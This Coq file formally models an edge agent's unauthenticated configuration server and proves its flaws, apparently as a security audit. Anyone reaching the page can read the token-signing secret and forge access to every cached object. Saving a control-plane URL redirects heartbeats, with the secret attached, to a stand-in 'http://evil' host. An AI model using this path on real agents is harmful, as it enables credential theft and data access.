(* ===== verification/LocalConfig.v ===== *)
(** * The local configuration pages ([internal/edgeagent/localconfig/server.go])

    A second HTTP server of the agent, on every interface, without authentication.  It shows
    and changes the configuration the agent was started with, which the other parts share by
    pointer.  Bodies are decoded JSON objects; the connection test asks an arbitrary address
    ([net]).  The page itself and its scripts are not modelled.

    The theorems: what is saved is shown, and nothing else changes; but the page gives away
    the secret with which tokens are signed, so that everybody who reaches it can open every
    object; and whoever saves another control plane receives the next heartbeat with that
    secret. *)

From S2P Require Import Prelude GoStrings NetAddr GoHash GoJson GoFloat StreamKeys SlidingWindow EdgeCache.
From S2P Require Import Manifest Fetcher Prefetch Tokens EdgeServer Config Reporter.
From Stdlib Require Import Ascii.

(** ** Values and bodies *)
Inductive jvalue :=
| JVString (s : string)
| JVInt (z : Z)
| JVFloat (x : float64)
| JVBool (b : bool)
| JVOther.

Abbreviation jobject := (list (string * jvalue)).

(** The last member of a name counts. *)
Definition member (req : jobject) (key : string) : jvalue :=
  foldl (λ v m, if String.eqb m.1 key then m.2 else v) JVOther req.

Inductive lcReply :=
| LcObject (o : jobject)
| LcError (msg : string) (code : Z).

Definition status_reply (s : string) : lcReply := LcObject [("status", JVString s)].
Definition not_allowed : lcReply := LcError "method not allowed" 405.

(** ** The configuration *)

(** The fields the page changes. *)
Definition edited (c : EdgeAgentConfig) (cp origin dir : string) (gb uplink : Z) (p2p : bool) (peers : Z)
    (prefetch : bool) (workers bw : Z) : EdgeAgentConfig := {|
  eac_ListenAddr := eac_ListenAddr c; eac_ControlPlaneURL := cp; eac_NodeToken := eac_NodeToken c;
  eac_CacheDir := dir; eac_CacheMaxGB := gb; eac_OriginURL := origin; eac_HeartbeatInterval := eac_HeartbeatInterval c;
  eac_MaxConns := eac_MaxConns c; eac_TLSCertFile := eac_TLSCertFile c; eac_TLSKeyFile := eac_TLSKeyFile c;
  eac_NATMode := eac_NATMode c; eac_TunnelServerAddr := eac_TunnelServerAddr c; eac_TunnelAuthToken := eac_TunnelAuthToken c;
  eac_Streaming := eac_Streaming c; eac_Quic := eac_Quic c; eac_MaxUplinkMbps := uplink; eac_P2PEnabled := p2p;
  eac_P2PDiscoveryIntervalSec := eac_P2PDiscoveryIntervalSec c; eac_P2PMaxPeers := peers; eac_PrefetchEnabled := prefetch;
  eac_PrefetchWorkers := workers; eac_PrefetchBandwidthLimit := eac_PrefetchBandwidthLimit c;
  eac_PrefetchNightModeStart := eac_PrefetchNightModeStart c; eac_PrefetchNightModeEnd := eac_PrefetchNightModeEnd c;
  eac_OriginFetchBWLimit := bw; eac_PublicHost := eac_PublicHost c; eac_Region := eac_Region c; eac_ISP := eac_ISP c;
  eac_WSProxyEnabled := eac_WSProxyEnabled c; eac_GRPCProxyEnabled := eac_GRPCProxyEnabled c; eac_TLSAutoCert := eac_TLSAutoCert c;
  eac_TLSCertDir := eac_TLSCertDir c; eac_TLSEnabled := eac_TLSEnabled c; eac_ShieldMode := eac_ShieldMode c
|}.

(** A string that is not empty, a number above zero (truncated), a boolean. *)
Definition string_edit (v : jvalue) (old : string) : string :=
  match v with JVString s => if String.eqb s "" then old else s | _ => old end.
Definition number_edit (v : jvalue) (old : Z) : Z :=
  match v with JVFloat x => if fltb fzero x then int_of_float x else old | _ => old end.
Definition bool_edit (v : jvalue) (old : bool) : bool := match v with JVBool b => b | _ => old end.

Definition config_edit (c : EdgeAgentConfig) (req : jobject) : EdgeAgentConfig :=
  edited c
    (string_edit (member req "control_plane_url") (eac_ControlPlaneURL c))
    (string_edit (member req "origin_url") (eac_OriginURL c))
    (string_edit (member req "cache_dir") (eac_CacheDir c))
    (number_edit (member req "cache_max_gb") (eac_CacheMaxGB c))
    (number_edit (member req "max_uplink_mbps") (eac_MaxUplinkMbps c))
    (bool_edit (member req "p2p_enabled") (eac_P2PEnabled c))
    (number_edit (member req "p2p_max_peers") (eac_P2PMaxPeers c))
    (bool_edit (member req "prefetch_enabled") (eac_PrefetchEnabled c))
    (number_edit (member req "prefetch_workers") (eac_PrefetchWorkers c))
    (number_edit (member req "origin_fetch_bw_limit") (eac_OriginFetchBWLimit c)).

Definition config_view (c : EdgeAgentConfig) : jobject := [
  ("control_plane_url", JVString (eac_ControlPlaneURL c));
  ("origin_url", JVString (eac_OriginURL c));
  ("cache_dir", JVString (eac_CacheDir c));
  ("cache_max_gb", JVInt (eac_CacheMaxGB c));
  ("listen_addr", JVString (eac_ListenAddr c));
  ("max_uplink_mbps", JVInt (eac_MaxUplinkMbps c));
  ("p2p_enabled", JVBool (eac_P2PEnabled c));
  ("p2p_max_peers", JVInt (eac_P2PMaxPeers c));
  ("nat_mode", JVBool (eac_NATMode c));
  ("tunnel_server_addr", JVString (eac_TunnelServerAddr c));
  ("origin_fetch_bw_limit", JVInt (eac_OriginFetchBWLimit c));
  ("prefetch_enabled", JVBool (eac_PrefetchEnabled c));
  ("prefetch_workers", JVInt (eac_PrefetchWorkers c));
  ("prefetch_bw_limit", JVInt (eac_PrefetchBandwidthLimit c));
  ("prefetch_night_start", JVInt (eac_PrefetchNightModeStart c));
  ("prefetch_night_end", JVInt (eac_PrefetchNightModeEnd c));
  ("node_token", JVString (eac_NodeToken c))
].

(** [None] is a body that does not decode. *)
Definition handleAPIConfig (method : string) (body : option jobject) (c : EdgeAgentConfig) : lcReply * EdgeAgentConfig :=
  if String.eqb method "GET" then (LcObject (config_view c), c)
  else if String.eqb method "POST" then
    match body with
    | None => (LcError "invalid request" 400, c)
    | Some req => (status_reply "saved", config_edit c req)
    end
  else (not_allowed, c).

Definition handleAPISave := handleAPIConfig.

Definition handleAPIApply (method : string) : lcReply :=
  if String.eqb method "POST" then status_reply "applied" else not_allowed.

(** [net] asks an address: its status, or the text of an error. *)
Definition handleAPITestConn (net : string → Z + string) (latency : Z) (method : string) (body : option string) : lcReply :=
  if negb (String.eqb method "POST") then not_allowed
  else match body with
       | None | Some "" => LcError "invalid request" 400
       | Some url =>
           match net url with
           | inr e => LcObject [("success", JVBool false); ("latency_ms", JVInt latency); ("error", JVString e)]
           | inl status => LcObject [("success", JVBool (status <? 400)); ("status_code", JVInt status); ("latency_ms", JVInt latency)]
           end
       end.

Definition handleAPIDiskInfo : lcReply :=
  LcObject [("total_gb", JVInt 100); ("free_gb", JVInt 65); ("used_gb", JVInt 35)].

Definition handleAPILogs : lcReply := LcObject [("log_level", JVString "info"); ("recent_logs", JVOther)].

(** The figures of [MetricsSource], from the server, its cache and the meter. *)
Definition handleAPIStatus (uptime : string) (goroutines cpus : Z) (c : EdgeAgentConfig) (s : Server) (b : BandwidthMeter) : lcReply :=
  let m := sv_metrics s in
  let cs := Cache_Stats (sv_cache s) in
  let lookups := i64 (sm_cacheHits m + sm_cacheMisses m) in
  let hit_ratio := if 0 <? lookups then ratio (sm_cacheHits m) lookups else fzero in
  let '(ingress, egress) := BandwidthMeter_Current b in
  LcObject [
    ("uptime", JVString uptime);
    ("cache_hit_ratio", JVFloat hit_ratio);
    ("cache_mb", JVFloat (fdiv (float_of_Z (stat_Size cs)) (float_of_Z (1024 * 1024))));
    ("cache_max_gb", JVInt (stat_MaxGB cs));
    ("cache_items", JVInt (stat_ItemCount cs));
    ("cache_hits", JVInt (sm_cacheHits m));
    ("cache_misses", JVInt (sm_cacheMisses m));
    ("total_requests", JVInt (sm_requests m));
    ("total_bytes", JVInt (sm_bytesSent m));
    ("errors", JVInt (sm_errors m));
    ("egress_mbps", JVFloat egress);
    ("ingress_mbps", JVFloat ingress);
    ("goroutines", JVInt goroutines);
    ("num_cpu", JVInt cpus);
    ("max_uplink_mbps", JVInt (eac_MaxUplinkMbps c))
  ].

(** ** What is saved is shown *)
Definition string_fields : list string := ["control_plane_url"; "origin_url"; "cache_dir"].
Definition number_fields : list string :=
  ["cache_max_gb"; "max_uplink_mbps"; "p2p_max_peers"; "prefetch_workers"; "origin_fetch_bw_limit"].
Definition bool_fields : list string := ["p2p_enabled"; "prefetch_enabled"].

(** A member that changes the configuration, and what is shown for it afterwards. *)
Inductive editable : string → jvalue → jvalue → Prop :=
| ed_string k s : k ∈ string_fields → s ≠ "" → editable k (JVString s) (JVString s)
| ed_number k x : k ∈ number_fields → fltb fzero x = true → editable k (JVFloat x) (JVInt (int_of_float x))
| ed_bool k b : k ∈ bool_fields → editable k (JVBool b) (JVBool b).

Definition set_member (k : string) (v : jvalue) (o : jobject) : jobject :=
  (λ m, if String.eqb m.1 k then (m.1, v) else m) <$> o.

Lemma string_edit_same k key v old : (∀ w, ¬ editable k v w) → key ∈ string_fields → string_edit (member [(k, v)] key) old = old.
Proof.
  intros Hn Hk. cbn. destruct (String.eqb_spec k key) as [->|]; [|done]. destruct v as [s| | | |]; try done. cbn.
  destruct (String.eqb_spec s ""); [done|]. exfalso. eapply Hn. by apply ed_string.
Qed.
Lemma number_edit_same k key v old : (∀ w, ¬ editable k v w) → key ∈ number_fields → number_edit (member [(k, v)] key) old = old.
Proof.
  intros Hn Hk. cbn. destruct (String.eqb_spec k key) as [->|]; [|done]. destruct v as [| |x| |]; try done. cbn.
  destruct (fltb fzero x) eqn:E; [|done]. exfalso. eapply Hn. by apply ed_number.
Qed.
Lemma bool_edit_same k key v old : (∀ w, ¬ editable k v w) → key ∈ bool_fields → bool_edit (member [(k, v)] key) old = old.
Proof.
  intros Hn Hk. cbn. destruct (String.eqb_spec k key) as [->|]; [|done]. destruct v as [| | |b|]; try done. cbn.
  exfalso. eapply Hn. by apply ed_bool.
Qed.

(** What is saved on the page is shown by it: saving one of the ten
    changeable settings with a value of its type (a string that is not empty, a positive
    number, which is truncated, or a truth value) changes exactly this entry of the shown
    configuration; any other member, an unknown name or a value of another type changes
    nothing, and is reported as saved all the same. *)
Theorem saved_is_shown k v c :
  let '(reply, c') := handleAPISave "POST" (Some [(k, v)]) c in
  reply = status_reply "saved" ∧
  (∀ shown body, editable k v shown →
     handleAPIConfig "GET" body c' = (LcObject (set_member k shown (config_view c)), c')) ∧
  ((∀ shown, ¬ editable k v shown) → c' = c).
Proof.
  unfold handleAPISave, handleAPIConfig. cbn [String.eqb Ascii.eqb Bool.eqb]. split_and!; [done| |].
  - intros shown body He. f_equal. f_equal.
    destruct He as [k s Hk Hs|k x Hk Hx|k b Hk].
    + destruct s as [|a s]; [done|]. unfold string_fields in Hk. repeat (apply elem_of_cons in Hk as [->|Hk]; [reflexivity|]).
      by apply elem_of_nil in Hk.
    + unfold number_fields in Hk. repeat (apply elem_of_cons in Hk as [->|Hk]; [unfold config_view, config_edit; cbn -[fltb int_of_float fzero]; by rewrite Hx|]).
      by apply elem_of_nil in Hk.
    + unfold bool_fields in Hk. repeat (apply elem_of_cons in Hk as [->|Hk]; [reflexivity|]). by apply elem_of_nil in Hk.
  - intros Hn. unfold config_edit. rewrite !(string_edit_same k _ v _ Hn), !(number_edit_same k _ v _ Hn), !(bool_edit_same k _ v _ Hn)
      by (vm_compute; repeat constructor). by destruct c.
Qed.

(** ** What the page gives away *)
Section page.
Context (ParseFloat : string → option float64) (format_verbs : chars → Z → chars)
        (xml_Unmarshal : bytes → option mpdRoot) (env_max : Z).
Local Abbreviation handle := (handleObject ParseFloat format_verbs xml_Unmarshal env_max).

(** The server signs and checks with the node token of its configuration. *)
Definition configured (s : Server) (c : EdgeAgentConfig) : Prop := sv_secret s = bytes_of_string (eac_NodeToken c).

(** A request with a token that was signed with the text [secret], for any resource. *)
Record forged (secret : string) (s : Server) (io : objectIO) (r : edgeRequest) (key : string) (now0 : Z) (pay : TokenPayload) : Prop := {
  fg_texts : text_ok (tp_Key pay) ∧ text_ok (tp_IPPrefix pay) ∧ is_i64 (tp_Exp (stamped now0 pay));
  fg_signed : Signer_Sign (bytes_of_string secret) now0 pay = Ok (request_token r) ∧ request_token r ≠ "";
  fg_valid : oi_now io / sec ≤ tp_Exp (stamped now0 pay);
  fg_prefix : prefix_matches (tp_IPPrefix pay) (extractClientIP r) = Ok true;
  fg_get : er_Method r = "GET" ∧ er_Range r = "";
  fg_path : er_Path r = String.append "/obj/" key ∧ bad_key key = false ∧ no_spaces (to_chars key)
}.

(** The configuration page gives the signing secret away: a GET request to it,
    without any credentials, is answered with the node token, and with a token signed with
    that text, for whatever resource, the edge serves every object of its cache; an agent
    that was started without a node token accepts what is signed with the empty text. *)
Theorem config_page_opens_every_object c body s io r key data now0 pay :
  configured s c → plain_request s r key → cached io s key data → oi_copy io = None →
  ∃ o secret, handleAPIConfig "GET" body c = (LcObject o, c) ∧ member o "node_token" = JVString secret ∧
    (forged secret s io r key now0 pay → rs_status (handle io s r).1 = 200 ∧ rs_body (handle io s r).1 = data) ∧
    (∀ ps e, c = LoadEdgeAgent ps e → e !! "EA_NODE_TOKEN" = None → secret = "").
Proof.
  intros Hs Hp Hc Hcopy. exists (config_view c), (eac_NodeToken c). split_and!; [done|done| |].
  - intros [(Hk & Hi & He) [Hsign Hne] Hv Hip [Hm Hr] (Hpath & Hb & Hsp)]. rewrite <- Hs in Hsign.
    destruct (token_opens_every_object ParseFloat format_verbs xml_Unmarshal env_max io s r now0 pay key data
      Hk Hi He Hsign Hne Hv Hip Hm Hpath Hb Hsp Hp Hc Hr Hcopy) as (H1 & H2 & _). done.
  - intros ps e -> He. cbn [eac_NodeToken LoadEdgeAgent]. by rewrite getEnv_unset.
Qed.
End page.

(** A control plane that keeps what it is sent. *)
Definition recorder (p : post heartbeat) (l : list (post heartbeat)) : option Z * list (post heartbeat) := (Some 200, l ++ [p]).

Definition with_cfg (a : agent) (c : EdgeAgentConfig) : agent := mkAgent c (ag_server a) (ag_meter a) (ag_nodeID a) (ag_stopped a).

(** Whoever saves another control plane on the page, without any credentials,
    gets the agent's secret: the next heartbeat is sent to the saved address, and carries
    the node token as authorization. *)
Theorem heartbeats_redirected url io a :
  url ≠ "" → ag_nodeID a ≠ "" → eac_NodeToken (ag_cfg a) ≠ "" → summary_built io (ag_nodeID a) a →
  let c' := (handleAPISave "POST" (Some [("control_plane_url", JVString url)]) (ag_cfg a)).2 in
  let '(r, a', sent) := Reporter_ReportOnce io recorder (with_cfg a c') [] in
  r = Ok tt ∧ ∃ hb, sent = [mkPost (String.append url "/v1/nodes/heartbeat") (String.append "Bearer " (eac_NodeToken (ag_cfg a))) hb].
Proof.
  intros Hurl Hid Htok [sm Hsm] c'. unfold Reporter_ReportOnce. cbn [with_cfg ag_nodeID ag_server ag_meter ag_cfg].
  rewrite (proj2 (String.eqb_neq _ _) Hid).
  destruct (GetMetricsDelta (ag_server a)) as [[[requests bytesSent] errors] server] eqn:Hd.
  assert (Hcache : sv_cache server = sv_cache (ag_server a)).
  { revert Hd. unfold GetMetricsDelta. destruct (sv_lastSnapshot _) as [[? ?] ?]. by intros [= _ _ _ <-]. }
  destruct (BandwidthMeter_Snapshot _ _ _) as [[ingress egress] meter]. rewrite Hcache.
  cbn [set_agent_server ag_nodeID with_cfg]. rewrite Hsm. cbn [recorder app Z.leb Z.compare Pos.compare Pos.compare_cont].
  split; [done|]. eexists. do 2 f_equal.
  - subst c'. cbn. by rewrite (proj2 (String.eqb_neq _ _) Hurl).
  - unfold authorization. change (eac_NodeToken c') with (eac_NodeToken (ag_cfg a)).
    by rewrite (proj2 (String.eqb_neq _ _) Htok).
Qed.

(** ** Concrete runs *)
Definition demo_saved : EdgeAgentConfig :=
  (handleAPISave "POST" (Some [("cache_dir", JVString "/var/cache")]) demo_cfg).2.
Example demo_save_shown :
  member (config_view demo_saved) "cache_dir" = JVString "/var/cache" ∧ member (config_view demo_saved) "listen_addr" = JVString ":9090".
Proof. split; vm_compute; reflexivity. Qed.

(** An agent with the secret of the demonstration. *)
Definition demo_secret_cfg : EdgeAgentConfig :=
  LoadEdgeAgent demo_parsers {["EA_NODE_TOKEN" := string_of_bytes demo_secret]}.

Lemma config_page_opens_every_object_witness :
  rs_body (handleObject demo_parse demo_verbs demo_xml 0 demo_io (demo_edge demo_warm) (demo_edge_req "GET" "")).1 = demo_body.
Proof.
  destruct (config_page_opens_every_object demo_parse demo_verbs demo_xml 0 demo_secret_cfg None (demo_edge demo_warm) demo_io
    (demo_edge_req "GET" "") "k" demo_body 0 (mkTokenPayload "other" 2000 "203.0.113.0/24")) as (o & secret & Ho & Hm & H & _).
  - vm_compute. reflexivity.
  - apply demo_plain.
  - exact demo_cached.
  - reflexivity.
  - assert (secret = string_of_bytes demo_secret) as ->.
    { injection Ho as <-. injection Hm as <-. vm_compute. reflexivity. }
    apply H. split.
    + split; [apply ascii_text; reflexivity|split; [apply ascii_text; reflexivity|vm_compute; split; [discriminate|reflexivity]]].
    + split; [rewrite bytes_of_string_of_bytes; vm_compute; reflexivity|vm_compute; discriminate].
    + vm_compute. discriminate.
    + vm_compute. reflexivity.
    + split; reflexivity.
    + split; [reflexivity|split; [reflexivity|vm_compute; split; reflexivity]].
Defined.

Definition demo_named : agent := mkAgent demo_secret_cfg (demo_edge demo_cache) (NewBandwidthMeter 0) "n9" false.
Lemma heartbeats_redirected_witness :
  let c' := (handleAPISave "POST" (Some [("control_plane_url", JVString "http://evil")]) (ag_cfg demo_named)).2 in
  po_URL <$> (Reporter_ReportOnce demo_report recorder (with_cfg demo_named c') []).2 = ["http://evil/v1/nodes/heartbeat"].
Proof.
  assert (Hsm : summary_built demo_report (ag_nodeID demo_named) demo_named) by (exists None; vm_compute; reflexivity).
  pose proof (heartbeats_redirected "http://evil" demo_report demo_named ltac:(discriminate) ltac:(discriminate)
    ltac:(vm_compute; discriminate) Hsm) as H. cbv zeta in H |- *.
  destruct (Reporter_ReportOnce _ _ _ _) as [[r a'] sent]. destruct H as (_ & hb & ->). reflexivity.
Defined.
